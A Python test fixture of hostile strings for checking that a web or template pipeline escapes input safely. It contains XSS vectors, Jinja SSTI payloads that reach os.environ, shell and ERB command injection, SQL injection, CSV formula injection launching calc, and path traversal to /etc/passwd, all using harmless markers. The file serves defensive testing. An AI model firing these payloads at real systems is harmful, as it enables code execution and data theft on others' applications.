"""Texts that other pages ran, broke on or garbled; whatever runs leaves a mark that tests look for.

In the browser the mark is `window.pwned`, in Python an environment variable, `MARK`.
"""

from __future__ import annotations

MARK = "ERDAO_GEO_PWNED"
_RUN = f"cycler.__init__.__globals__.os.environ.__setitem__('{MARK}', '1')"
_RUN_LIPSUM = f"lipsum.__globals__['os'].environ.update({{'{MARK}': '1'}})"

SCRIPT = {
    "script": "<script>window.pwned=1</script>",
    "script-end": "</script><script>window.pwned=1</script>",
    "script-end-upper": "</SCRIPT ><SCRIPT>window.pwned=1</SCRIPT>",
    "script-comment": "<!--<script>window.pwned=1//-->",
    "script-in-comment": "--><script>window.pwned=1</script><!--",
    "json-end": '"}]}</script><script>window.pwned=1</script>',
    "cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "textarea": "</textarea><script>window.pwned=1</script>",
    "title-end": "</title><script>window.pwned=1</script>",
    "style-end": "</style><script>window.pwned=1</script>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "template": "<template shadowrootmode=open><script>window.pwned=1</script></template>",
}
HANDLERS = {
    "onerror": "<img src=x onerror=window.pwned=1>",
    "onerror-quoted": "\"><img src=x onerror='window.pwned=1'>",
    "onerror-single": '\'><img src=x onerror="window.pwned=1">',
    "onload": "<body onload=window.pwned=1>",
    "onfocus": "<input autofocus onfocus=window.pwned=1>",
    "ontoggle": "<details open ontoggle=window.pwned=1>",
    "onmouseover": '" onmouseover="window.pwned=1" x="',
    "onclick": "' onclick='window.pwned=1' x='",
    "onanimation": "<b style='animation:x' onanimationstart=window.pwned=1>",
    "video": "<video><source onerror=window.pwned=1></video>",
    "custom": "<x-y onpointerenter=window.pwned=1>吉林大路</x-y>",
}
SVG = {
    "svg-onload": "<svg onload=window.pwned=1>",
    "svg-script": "<svg><script>window.pwned=1</script></svg>",
    "svg-animate": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.pwned=1'/>#x\">",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "mathml": "<math><mtext><mglyph><style><img src=x onerror=window.pwned=1>",
}
ADDRESSES = {
    "javascript": "javascript:window.pwned=1",
    "javascript-mixed": "JaVa\tScRiPt:window.pwned=1//",
    "link": "<a href='javascript:window.pwned=1'>街</a>",
    "data-html": "data:text/html,<script>parent.pwned=1</script>",
    "iframe": "<iframe src=javascript:parent.pwned=1></iframe>",
    "frame-data": "<iframe src='data:text/html,<script>top.pwned=1</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "form": "<form action=javascript:window.pwned=1><button>x</button></form>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://example.invalid/'>",
    "base": "<base href='http://example.invalid/'>",
    "remote-script": "<script src=http://example.invalid/x.js></script>",
    "remote-image": "<img src=http://example.invalid/x.png>",
    "remote-style": "<link rel=stylesheet href=http://example.invalid/x.css>",
    "traversal": "../../../../etc/passwd",
}
TEMPLATES = {
    "jinja-value": f"{{{{ {_RUN} }}}}",
    "jinja-lipsum": f"{{{{ {_RUN_LIPSUM} }}}}",
    "jinja-print": f"{{% print {_RUN} %}}",
    "jinja-set": f"{{% set x = {_RUN} %}}",
    "jinja-if": f"{{% if {_RUN} %}}{{% endif %}}",
    "jinja-for": "{% for x in range(9999999999) %}{{ x }}{% endfor %}",
    "jinja-include": "{% include '/etc/passwd' %}",
    "jinja-raw": f"{{% endraw %}}{{{{ {_RUN} }}}}{{% raw %}}",
    "jinja-math": "{{ 7*191 }}",
    "jinja-comment": "桩号{#3+200",
    "jinja-comment-whole": "{# nobody sees this #}",
    "jinja-open": "{{",
    "jinja-close": "%}}}",
    "jinja-undefined": "{{ nothing.of.this }}",
    "python-format": "{0.__class__.__init__.__globals__} %s %(x)s {}",
    "template-literal": "${window.pwned=1}",
    "template-literal-end": "`+(window.pwned=1)+`",
    "template-literal-escaped": "\\`${window.pwned=1}",
    "angular": "{{constructor.constructor('window.pwned=1')()}}",
    "leaflet": "{s}{z}{x}{y}",
    "ruby": "<%= system('touch pwned') %>",
    "shell": "$(touch pwned)`touch pwned`; rm -rf x | y & z",
}
CODE = {
    "js-string": "';window.pwned=1;//",
    "js-double": '";window.pwned=1;//',
    "js-expression": "-(window.pwned=1)-",
    "js-line-separators": "x\u2028window.pwned=1\u2029//",
    "js-newline": "x\nwindow.pwned=1\r\ny",
    "js-comment": "*/window.pwned=1/*",
    "css-expression": "x:expression(window.pwned=1);background:url(javascript:window.pwned=1)",
    "css-breakout": "red}body{display:none}*{background:url(http://example.invalid/)}",
    "css-import": "@import 'http://example.invalid/x.css';",
    "css-selector": '"]{}[x="',
    "selector": "#eg-head > *, :is(",
    "sql": "'); DROP TABLE roads;--",
}
NAMES = {
    "proto": "__proto__",
    "constructor": "constructor",
    "prototype": "prototype",
    "to-string": "toString",
    "value-of": "valueOf",
    "has-own": "hasOwnProperty",
    "then": "then",
    "length": "length",
    "undefined": "undefined",
    "null": "null",
    "nan": "NaN",
    "number": "1e400",
    "zero": "0",
    "hyphen": "-",
}
TABLES = {
    "formula": "=1+1",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("http://example.invalid/?"&A1,"路")',
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)",
    "formula-tab": "\t=1+1",
    "formula-wide": "＝1+1",
    "comma": 'a,b;c\t"d","e"',
    "quote": '"',
}
LETTERS = {
    "entities": "&lt;script&gt; &amp;amp; &#60; &#x3c; &nbsp;&copy &quot;",
    "entity-open": "&lt",
    "percent": "%3Cscript%3E %00 %u003c %",
    "backslash": "\\u003cscript\\u003e \\x3c \\n \\",
    "null-byte": "吉林\0大路",
    "control": "a\x01\x08\x0b\x0c\x1b[31m\x7f\x85b",
    "bidi": "路\u202egnp.exe\u202c\u2066x\u2069",
    "bidi-marks": "\u200f\u200e\u061c路",
    "zero-width": "吉\u200b林\u200d大\u2060路\ufeff",
    "spaces": "a\u00a0b\u3000c\u2003d",
    "blanks": "  a   b  ",
    "newlines": "一\n\n二\r三\t四",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "astral": "𠮷野家 👷🏽‍♀️ 🚧",
    "private": "\ue000\uf8ff\U0010fffd",
    "noncharacter": "a\ufffe\uffffb",
    "replacement": "a\ufffdb",
    "arabic": "مَشْرُوع 2022",
    "long": "长" * 33_000 + "<img src=x onerror=window.pwned=1>",
    "long-unbroken": "W" * 100_000,
    "many-tags": "<b>" * 3_000,
    "deep": "[" * 5_000,
}

HOSTILE = {
    **SCRIPT,
    **HANDLERS,
    **SVG,
    **ADDRESSES,
    **TEMPLATES,
    **CODE,
    **NAMES,
    **TABLES,
    **LETTERS,
}

SURROGATES = {"high": "\\ud800", "low": "a\\udc00b", "reversed": "\\udc00\\ud800"}
"""Halves of a character, as JSON escapes them: no text, and nothing that UTF-8 could hold."""
